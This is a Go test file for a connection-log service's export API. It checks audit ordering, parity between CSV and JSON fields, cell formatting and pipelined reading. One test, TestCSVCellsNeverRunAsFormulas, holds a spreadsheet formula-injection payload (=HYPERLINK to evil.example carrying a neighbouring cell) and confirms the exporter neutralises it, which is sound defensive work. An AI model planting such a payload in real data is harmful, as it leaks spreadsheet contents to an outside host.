package api

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"maps"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/connlog/connlog/internal/csvcell"
	"github.com/connlog/connlog/store"
)

// getAccept is testEnv.get with an Accept header.
func (e *testEnv) getAccept(tb testing.TB, target, token, accept string) *http.Response {
	tb.Helper()
	req := httptest.NewRequestWithContext(tb.Context(), http.MethodGet, target, nil)
	req.Header.Set("Authorization", "Bearer "+token)
	req.Header.Set("X-Purpose", "INC-42")
	req.Header.Set("Accept", accept)
	rec := httptest.NewRecorder()
	e.srv.Handler().ServeHTTP(&orderWriter{ResponseWriter: rec, store: e.store}, req)
	return rec.Result()
}

func TestExportAuditOrderAndFailures(t *testing.T) {
	hits := []store.Hit{{ClientIP: netip.MustParseAddr("203.0.113.7"), Path: "/secret"}}

	// The first audit row precedes the first byte; the second follows the
	// last.
	env := newTestEnv(t, &fakeStore{hits: hits})
	resp := env.getAccept(t, okQuery, env.tokens.analyst, "text/csv")
	body := readBody(t, resp)
	if resp.StatusCode != 200 || !strings.Contains(body, "/secret") || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") {
		t.Fatalf("status %d %q", resp.StatusCode, body)
	}
	if got := env.store.events; !reflect.DeepEqual(got, []string{"audit", "write", "audit"}) {
		t.Errorf("events %q, want audit, write, audit", got)
	}

	// No audit row, no data.
	env = newTestEnv(t, &fakeStore{hits: hits, auditErr: errors.New("disk full")})
	resp = env.getAccept(t, okQuery, env.tokens.analyst, "application/x-ndjson")
	if body := readBody(t, resp); resp.StatusCode != 503 || strings.Contains(body, "/secret") || errorCode(t, body) != CodeAuditUnavailable {
		t.Errorf("audit down: status %d %q", resp.StatusCode, body)
	}

	// A store failure before the first row is a JSON error, and the second
	// audit row says the export was interrupted.
	env = newTestEnv(t, &fakeStore{searchErr: errors.New("connection refused")})
	resp = env.getAccept(t, okQuery, env.tokens.analyst, "text/csv")
	if body := readBody(t, resp); resp.StatusCode != 503 || errorCode(t, body) != CodeUnavailable {
		t.Errorf("store down: status %d %q", resp.StatusCode, body)
	}
	a := env.store.auditRows()
	if len(a) != 2 || a[1].Outcome != outcomeInterrupted || a[1].Status != 503 || !strings.Contains(a[1].Reason, "connection refused") {
		t.Errorf("audit rows %+v", a)
	}
}

// TestCSVCarriesEveryFieldOfTheJSONRow: an export is the same evidence in
// either format. The access log's CSV once lacked client_text and
// raw_request, so a request that was not HTTP exported as an empty one; the
// CSV is now appended from the stored row, not from the JSON row, so each
// cell is checked against the JSON row of the same stored row.
func TestCSVCarriesEveryFieldOfTheJSONRow(t *testing.T) {
	at := time.Date(2026, 12, 7, 22, 1, 2, 345_000_000, time.FixedZone("CET", 3600))
	src := store.Source{Topic: "topic", Partition: 1006, Offset: 1007}
	hit := store.Hit{
		Source: src, EventTime: at, ClientIP: netip.MustParseAddr("::ffff:203.0.113.1"), ClientText: "client-text",
		ClientPort: 1001, PeerIP: netip.MustParseAddr("2001:db8::2"), ForwardedFor: "forwarded",
		ServerAddr: netip.MustParseAddr("203.0.113.3"), ServerPort: 1002, Site: "site", Method: "method", Path: "/path",
		Query: "query", Protocol: "protocol", RawRequest: "raw", Status: 1003, BytesSent: 1004, Referer: "referer",
		UserAgent: "agent", RequestTime: 1005 * time.Millisecond, Upstream: "upstream", RequestID: "request-id",
		User: "user", TLSProtocol: "tls",
	}
	rec := store.ConnectionRecord{
		Source: src, EventTime: at, ClientIP: hit.ClientIP, ClientPort: 1001, ServerAddr: hit.ServerAddr,
		ServerPort: 1002, Site: "site", Protocol: "protocol", TLSProtocol: "tls", Operation: store.OpDelete,
		Path: "/path", User: "user", Status: 1003,
	}
	ar, cr := newAccessRow(&hit), newConnectionRow(&rec)
	for _, tc := range []struct {
		json   any
		csv    csvRow
		header []string
	}{
		{&ar, (*accessCSV)(&hit), accessHeader},
		{&cr, (*connectionCSV)(&rec), connectionHeader},
	} {
		v := reflect.ValueOf(tc.json).Elem()
		want := map[string]string{}
		for i := range v.NumField() {
			want[strings.Split(v.Type().Field(i).Tag.Get("json"), ",")[0]] = fmt.Sprint(v.Field(i).Interface())
		}
		got := slices.Sorted(maps.Keys(want))
		if header := slices.Sorted(slices.Values(tc.header)); !slices.Equal(header, got) {
			t.Errorf("%s: CSV header %v, JSON fields %v", v.Type().Name(), header, got)
		}
		// Every field holds a value no other field has, so that a cell
		// written in another's column is seen.
		seen := map[string]string{}
		for name, value := range want {
			if other, ok := seen[value]; ok {
				t.Fatalf("%s: fields %s and %s both hold %q", v.Type().Name(), name, other, value)
			}
			seen[value] = name
		}
		cells := csvCells(t, tc.csv)
		if len(cells) != len(tc.header) {
			t.Fatalf("%s: %d cells for %d columns", v.Type().Name(), len(cells), len(tc.header))
		}
		for i, cell := range cells {
			if cell != want[tc.header[i]] {
				t.Errorf("%s: column %s holds %q, want %q", v.Type().Name(), tc.header[i], cell, want[tc.header[i]])
			}
		}
	}
}

// TestCSVCellsWrittenInPlace: the cells a CSV row appends in place (a
// time digit by digit, numbers and addresses with no quoting checked) are
// what the JSON row's strings give as fields: Format(timeFormat) around
// the edges of the digit-by-digit range too, negative numbers made safe.
func TestCSVCellsWrittenInPlace(t *testing.T) {
	rng := rand.New(rand.NewPCG(3, 4))
	field := func(s string) string {
		var r csvcell.Record
		r.Field(s)
		return string(r.B)
	}
	in := func(put func(*csvcell.Record)) string {
		var r csvcell.Record
		put(&r)
		return string(r.B)
	}
	times := []time.Time{
		time.Date(1000, 1, 1, 0, 0, 0, 0, time.UTC), time.Date(999, 12, 31, 23, 59, 59, 999_999_999, time.UTC),
		time.Date(9999, 12, 31, 23, 59, 59, 999_999_999, time.UTC), time.Date(10000, 1, 1, 0, 0, 0, 0, time.UTC),
		time.Date(2026, 12, 7, 22, 1, 2, 345_678_901, time.FixedZone("x", -9*3600-30*60)), {},
	}
	for range 10_000 {
		times = append(times, time.Unix(rng.Int64N(1<<34)-1<<33, rng.Int64N(1e9)).In(time.FixedZone("y", rng.IntN(50_000)-25_000)))
	}
	for _, at := range times {
		if got, want := in(func(r *csvcell.Record) { csvTime(r, at) }), field(at.UTC().Format(timeFormat)); got != want {
			t.Fatalf("%v: CSV %q, JSON %q", at, got, want)
		}
	}
	addrs := []netip.Addr{{}, netip.MustParseAddr("::"), netip.MustParseAddr("::ffff:198.51.100.7"), netip.MustParseAddr("fe80::1%eth0")}
	for range 1000 {
		var b [16]byte
		for i := range b {
			b[i] = byte(rng.UintN(256))
		}
		addrs = append(addrs, netip.AddrFrom16(b), netip.AddrFrom4([4]byte(b[:4])))
	}
	for _, a := range addrs {
		if got, want := in(func(r *csvcell.Record) { csvAddr(r, a) }), field(addrString(a)); got != want {
			t.Fatalf("%v: CSV %q, JSON %q", a, got, want)
		}
	}
	for _, v := range []int64{0, 1, -1, 9, 10, 1 << 62, -1 << 63, 1<<63 - 1, rng.Int64()} {
		if got, want := in(func(r *csvcell.Record) { csvInt(r, v) }), field(strconv.FormatInt(v, 10)); got != want {
			t.Fatalf("%d: CSV %q, JSON %q", v, got, want)
		}
		if got, want := in(func(r *csvcell.Record) { csvUint(r, uint64(v)) }), field(strconv.FormatUint(uint64(v), 10)); got != want {
			t.Fatalf("%d: CSV %q, JSON %q", uint64(v), got, want)
		}
	}
}

// csvCells is the record an export writes for row, read back.
func csvCells(t *testing.T, row csvRow) []string {
	t.Helper()
	var r csvcell.Record
	row.appendCSV(&r)
	r.End()
	rec, err := csv.NewReader(bytes.NewReader(r.B)).Read()
	if err != nil {
		t.Fatalf("%T: %q: %v", row, r.B, err)
	}
	return rec
}

// TestPipelinedKeepsOrderErrorsAndBounds: the export's reader goroutine
// changes nothing a client can see: every row in order, fn's error as is
// (and the reader stopped soon after), the reader's error after the rows
// before it.
func TestPipelinedKeepsOrderErrorsAndBounds(t *testing.T) {
	errRead := errors.New("read failed")
	for _, tc := range []struct {
		name      string
		rows      int   // rows the reader has
		readErr   error // the reader fails after its rows
		stopAt    int   // fn fails at this row (-1: never)
		wantSeen  int
		wantError error
	}{
		{"whole", 1000, nil, -1, 1000, nil},
		{"empty", 0, nil, -1, 0, nil},
		{"one chunk exactly", chunkRows, nil, -1, chunkRows, nil},
		{"fn stops", 100_000, nil, 300, 301, errStop},
		{"reader fails", 600, errRead, -1, 600, errRead},
	} {
		t.Run(tc.name, func(t *testing.T) {
			produced := 0
			each := func(ctx context.Context, fn func(*int) error) error {
				for i := range tc.rows {
					produced++
					v := i
					if err := fn(&v); err != nil {
						return err
					}
				}
				return tc.readErr
			}
			seen := 0
			err := pipelined(t.Context(), each, func(v *int) error {
				if *v != seen {
					t.Fatalf("row %d arrived as row %d", *v, seen)
				}
				seen++
				if *v == tc.stopAt {
					return errStop
				}
				return nil
			})
			if !errors.Is(err, tc.wantError) || (tc.wantError == nil && err != nil) {
				t.Fatalf("pipelined = %v, want %v", err, tc.wantError)
			}
			if seen != tc.wantSeen {
				t.Errorf("fn saw %d rows, want %d", seen, tc.wantSeen)
			}
			// The reader runs at most the chunks in flight ahead of fn.
			if tc.stopAt >= 0 && produced > tc.stopAt+1+4*chunkRows {
				t.Errorf("the reader went on to row %d after fn stopped at %d", produced, tc.stopAt)
			}
		})
	}
}

// TestCSVCellsNeverRunAsFormulas: a User-Agent or a user name is whatever
// the client sent; in a spreadsheet "=HYPERLINK(...)" would send the
// neighbouring cells away. The CSV cell carries one "'" in front, the
// NDJSON the value as stored.
func TestCSVCellsNeverRunAsFormulas(t *testing.T) {
	const ua = `=HYPERLINK("https://evil.example/?"&B2,"x")`
	hits := []store.Hit{{ClientIP: netip.MustParseAddr("203.0.113.7"), Path: "/a", UserAgent: ua, User: "@admin", Referer: "'quoted"}}
	env := newTestEnv(t, &fakeStore{hits: hits})
	body := readBody(t, env.getAccept(t, okQuery, env.tokens.analyst, "text/csv"))
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("CSV %q: %v", body, err)
	}
	cell := map[string]string{}
	for i, name := range recs[0] {
		cell[name] = recs[1][i]
	}
	for col, want := range map[string]string{"user_agent": "'" + ua, "user": "'@admin", "referer": "''quoted", "path": "/a", "client_ip": "203.0.113.7"} {
		if cell[col] != want {
			t.Errorf("CSV %s = %q, want %q", col, cell[col], want)
		}
	}
	nd := readBody(t, env.getAccept(t, okQuery, env.tokens.analyst, "application/x-ndjson"))
	var row map[string]any
	if err := json.Unmarshal([]byte(nd), &row); err != nil || row["user_agent"] != ua || row["user"] != "@admin" {
		t.Errorf("NDJSON %q: %v", nd, err)
	}
}

// TestPipelinedTimeoutEndsInAnErrorWithoutARowTwice: the export's deadline
// passing while the reader waits for a free chunk is an error (the export
// was cut, never passed as whole), and no chunk reaches fn twice.
func TestPipelinedTimeoutEndsInAnErrorWithoutARowTwice(t *testing.T) {
	for range 50 {
		ctx, cancel := context.WithCancel(t.Context())
		each := func(ctx context.Context, fn func(*int) error) error {
			for i := range 100_000 {
				v := i
				if err := fn(&v); err != nil {
					return err
				}
			}
			return nil
		}
		seen := 0
		err := pipelined(ctx, each, func(v *int) error {
			if *v != seen {
				t.Fatalf("row %d arrived as row %d", *v, seen)
			}
			seen++
			if seen == 3*chunkRows+7 {
				cancel() // the deadline passes while the reader is ahead
			}
			return nil
		})
		cancel()
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("pipelined = %v after %d rows, want the context's error", err, seen)
		}
	}
}
